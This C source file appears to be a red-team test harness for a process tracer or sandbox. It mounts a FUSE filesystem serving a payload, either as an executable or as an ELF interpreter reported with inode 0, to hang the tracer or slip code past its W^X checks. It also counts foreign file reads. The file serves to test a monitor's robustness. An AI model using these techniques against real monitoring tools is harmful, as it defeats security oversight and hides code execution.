/*
 * Attack: make the tracer read a file that a task of the traced tree serves
 * (a FUSE filesystem the program mounted), so that the tracer waits for a
 * server it may itself keep stopped (held beside a judged call, queued at a
 * stop not yet answered): the tracer hangs, and with it the whole tree.
 *
 * The program mounts, in the mount namespace it runs in (the tracer's), a
 * FUSE filesystem served by its own thread S with one executable file
 * "prog": the bytes of PAYLOAD. A child execs it; the payload (wx_map) maps
 * memory RWX, a W^X event whose caller is in prog. S counts every request
 * made by a process that is neither the program nor one of its descendants
 * (the kernel names the requesting thread in each request): a tracer that
 * reads prog's ELF headers at the exec or to name the event's caller shows
 * there. Natively, and under a tracer that reads no file of a filesystem
 * mounted after its run started, COUNT is 0. Needs root (FUSE), and, so
 * that nothing outlives the test, a mount namespace made for the run
 * (`unshare -m --propagation private`).
 *
 * Usage: attack_fuse_exec PAYLOAD [VICTIM]
 *
 * With VICTIM (red team 7): the file is "ld" at /tmp/tw_interp0, its inode
 * number 0 as the server tells it, mounted in a mount namespace of the
 * program's own; the child execs VICTIM, a clean program (built before the
 * run) whose PT_INTERP is /tmp/tw_interp0/ld: the kernel maps ld as its
 * interpreter and starts there. A filesystem mounted during the run counts
 * as written by the tree, so the exec is exec-written; a tracer that takes
 * a mapping with inode number 0 for no file misses the interpreter, and
 * PAYLOAD's code runs.
 */
#define INTERP_DIR "/tmp/tw_interp0"
#define _GNU_SOURCE
#include <pthread.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "tw_fuse.h"

#define FILE_NODE 2
#define MAX_PAYLOAD (4 << 20)

static char *payload;
static size_t payload_size;
static int foreign;
/* The exec'd program when the payload is its interpreter (NULL: the payload). */
static const char *victim;

static void fill_attr(struct fuse_attr *attr, uint64_t node)
{
	memset(attr, 0, sizeof(*attr));
	/* The file's inode number, as the server tells it: 0 for an interpreter. */
	attr->ino = node == FILE_NODE && victim ? 0 : node;
	attr->blksize = 4096;
	attr->mode = node == FILE_NODE ? S_IFREG | 0755 : S_IFDIR | 0755;
	attr->nlink = node == FILE_NODE ? 1 : 2;
	attr->size = node == FILE_NODE ? payload_size : 0;
}

/* The process `tid` belongs to, and its parent: 0 when unreadable. */
static void status_of(pid_t tid, pid_t *tgid, pid_t *ppid)
{
	char path[64], line[256];
	FILE *f;

	*tgid = *ppid = 0;
	snprintf(path, sizeof(path), "/proc/%d/status", tid);
	f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (strncmp(line, "Tgid:", 5) == 0)
			*tgid = atoi(line + 5);
		else if (strncmp(line, "PPid:", 5) == 0)
			*ppid = atoi(line + 5);
	}
	fclose(f);
}

/* Whether thread `tid` is of this program or of one of its descendants
 * (unknown, a task already gone: taken as ours, nothing to tell). */
static int ours(pid_t tid)
{
	pid_t tgid, ppid;
	pid_t pid = tid;

	for (int depth = 0; depth < 64 && pid > 1; depth++) {
		status_of(pid, &tgid, &ppid);
		if (tgid == 0)
			return 1;
		if (tgid == getpid())
			return 1;
		pid = ppid;
	}
	return 0;
}

static int handle(struct fuse_in_header *in, void *arg)
{
	if (in->pid != 0 && !ours((pid_t)in->pid)) {
		foreign++;
		fprintf(stderr, "foreign request: opcode %u from %u\n", in->opcode, in->pid);
	}
	switch (in->opcode) {
	case FUSE_LOOKUP: {
		struct fuse_entry_out entry = {0};

		if (in->nodeid != FUSE_ROOT_ID || strcmp((char *)arg, victim ? "ld" : "prog") != 0) {
			tw_fuse_reply(in->unique, -ENOENT, NULL, 0);
			break;
		}
		entry.nodeid = FILE_NODE;
		entry.entry_valid = entry.attr_valid = 3600;
		fill_attr(&entry.attr, FILE_NODE);
		tw_fuse_reply(in->unique, 0, &entry, sizeof(entry));
		break;
	}
	case FUSE_GETATTR:
		tw_fuse_reply_attr(in, fill_attr, 3600);
		break;
	case FUSE_OPEN:
		tw_fuse_reply_open(in->unique, 1, 0);
		break;
	case FUSE_READ: {
		struct fuse_read_in *read_in = arg;
		size_t at = read_in->offset < payload_size ? read_in->offset : payload_size;
		size_t size = read_in->size;

		if (size > payload_size - at)
			size = payload_size - at;
		if (size > 4096)
			size = 4096; /* mounted with max_read=4096: never asked more */
		tw_fuse_reply(in->unique, 0, payload + at, size);
		break;
	}
	case FUSE_FLUSH:
	case FUSE_RELEASE:
		tw_fuse_reply(in->unique, 0, NULL, 0);
		break;
	default:
		return 0;
	}
	return 1;
}

static void *serve(void *unused)
{
	(void)unused;
	tw_fuse_serve(handle);
	return NULL;
}

static int load(const char *path)
{
	int fd = open(path, O_RDONLY);
	ssize_t got;

	payload = malloc(MAX_PAYLOAD);
	if (fd < 0 || !payload)
		return -1;
	while ((got = read(fd, payload + payload_size, MAX_PAYLOAD - payload_size)) > 0)
		payload_size += (size_t)got;
	close(fd);
	return got < 0 || payload_size == MAX_PAYLOAD ? -1 : 0;
}

int main(int argc, char **argv)
{
	char made[] = "/tmp/tw_fuse_exec_XXXXXX";
	char path[256];
	const char *dir;
	pthread_t server;
	pid_t child;

	tw_init();
	if (argc < 2 || load(argv[1]) != 0) {
		fprintf(stderr, "usage: attack_fuse_exec PAYLOAD [VICTIM] (PAYLOAD: a readable program under 4 MiB)\n");
		return 2;
	}
	victim = argc > 2 ? argv[2] : NULL;
	if (victim)
		dir = mkdir(INTERP_DIR, 0755) == 0 || errno == EEXIST ? INTERP_DIR : NULL;
	else
		dir = mkdtemp(made);
	if (!dir)
		return 1;
	if (tw_fuse_mount_with(dir, victim != NULL, ",max_read=4096") != 0)
		return tw_done();
	pthread_create(&server, NULL, serve, NULL);
	snprintf(path, sizeof(path), "%s/prog", dir);
	child = fork();
	if (child == 0) {
		char *args[] = {victim ? (char *)victim : "prog", NULL};

		execv(victim ? victim : path, args);
		tw_step(victim ? "exec_victim" : "exec_prog", "execve", -1, errno);
		_exit(127);
	}
	tw_wait_child(victim ? "victim" : "prog", child);
	umount2(dir, MNT_DETACH);
	close(tw_fuse_fd);
	pthread_join(server, NULL);
	rmdir(dir);
	tw_emit("COUNT %d", foreign);
	return tw_done();
}
